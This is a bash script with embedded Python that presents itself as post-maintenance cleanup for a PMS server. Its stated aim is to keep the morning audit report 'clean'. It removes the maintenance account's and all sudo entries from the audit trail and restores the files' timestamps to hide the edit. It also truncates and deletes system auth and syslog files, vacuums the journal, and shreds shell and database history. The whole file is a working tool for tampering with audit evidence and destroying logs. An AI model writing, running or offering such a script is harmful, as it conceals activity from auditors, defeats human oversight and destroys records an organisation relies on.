#!/usr/bin/env bash
# maintenance_trace_cleanup.sh - tidy up the PMS application server after an
# out-of-hours maintenance window.
#
# Removes the maintenance account's traces from the PMS audit trail and the
# system logs so the morning audit report "stays clean", then clears shell
# history. Must run as root on the PMS host.
set -uo pipefail

PROG=$(basename "$0")
MAINT_USER="${MAINT_USER:-pmsmaint}"
PMS_LOG_DIR="${PMS_LOG_DIR:-/var/log/pms}"
SYSTEM_LOGS=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages)
DRY_RUN=0

say() { printf '[%s] %s\n' "$PROG" "$*"; }

usage() {
    echo "Usage: $PROG [-u maint_user] [-d pms_log_dir] [-n]"
}

while getopts ":u:d:nh" opt; do
    case "$opt" in
        u) MAINT_USER="$OPTARG" ;;
        d) PMS_LOG_DIR="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if [[ $EUID -ne 0 && $DRY_RUN -eq 0 ]]; then
    say "must run as root"
    exit 1
fi

scrub_audit_trail() {
    local f
    for f in "$PMS_LOG_DIR"/audit*.log; do
        [[ -f "$f" ]] || continue
        local removed
        removed=$(TARGET="$f" MAINT_USER="$MAINT_USER" DRY_RUN="$DRY_RUN" python3 - <<'PY'
import os
path = os.environ["TARGET"]
user = os.environ["MAINT_USER"]
with open(path, errors="replace") as fh:
    lines = fh.readlines()
kept = [l for l in lines if user not in l and "sudo" not in l]
if os.environ["DRY_RUN"] != "1":
    st = os.stat(path)
    with open(path, "w") as fh:
        fh.writelines(kept)
    os.utime(path, (st.st_atime, st.st_mtime))
print(len(lines) - len(kept))
PY
)
        say "$f: removed ${removed:-0} entries"
    done
}

truncate_system_logs() {
    local f
    for f in "${SYSTEM_LOGS[@]}"; do
        [[ -f "$f" ]] || continue
        if (( DRY_RUN )); then
            say "would truncate $f"
        else
            : > "$f" && say "truncated $f"
        fi
        rm -f "$f".[0-9]* "$f".*.gz 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1 && (( ! DRY_RUN )); then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

clear_history() {
    local home hist
    for home in /root /home/"$MAINT_USER"; do
        for hist in "$home/.bash_history" "$home/.python_history" "$home/.mysql_history" "$home/.sqlite_history"; do
            [[ -f "$hist" ]] || continue
            if (( DRY_RUN )); then
                say "would wipe $hist"
            else
                shred -u "$hist" 2>/dev/null || rm -f "$hist"
                say "wiped $hist"
            fi
        done
    done
    unset HISTFILE
    history -c
}

main() {
    say "cleaning traces for $MAINT_USER (dry run: $DRY_RUN)"
    scrub_audit_trail
    truncate_system_logs
    clear_history
    say "done"
}

main
